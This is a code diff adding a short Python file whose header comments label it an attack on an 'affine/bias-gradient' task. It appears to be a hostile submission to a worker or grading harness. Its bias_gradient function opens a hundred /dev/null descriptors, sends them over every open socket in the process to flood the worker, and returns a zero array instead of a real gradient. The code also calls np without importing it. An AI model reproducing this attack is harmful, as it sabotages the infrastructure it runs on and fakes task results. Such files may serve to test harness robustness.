@@ -1,0 +1,32 @@
+# Tries: sends open descriptors by the hundred with its bytes
+# Attacks: affine/bias-gradient
+# Class: own
+# %%
+import os
+import socket
+import struct
+import sys
+import threading
+import time
+
+def sockets():
+    for fd in range(3, 256):
+        try:
+            if os.path.exists(f"/dev/fd/{fd}") or os.fstat(fd).st_mode & 0o170000 == 0o140000:
+                yield fd
+        except OSError:
+            pass
+
+def wire():
+    return next(module for name, module in sys.modules.items() if name.endswith("worker.wire"))
+
+def frame(value):
+    payload = wire().encode(value)
+    return b"AGW1" + struct.pack("!I", len(payload)) + payload
+
+def bias_gradient(dY):
+    kept = [os.open("/dev/null", os.O_RDONLY) for _ in range(100)]
+    for fd in list(sockets()):
+        sock = socket.socket(fileno=os.dup(fd))
+        socket.send_fds(sock, [b"x"], kept)
+    return np.zeros(dY.shape[1])
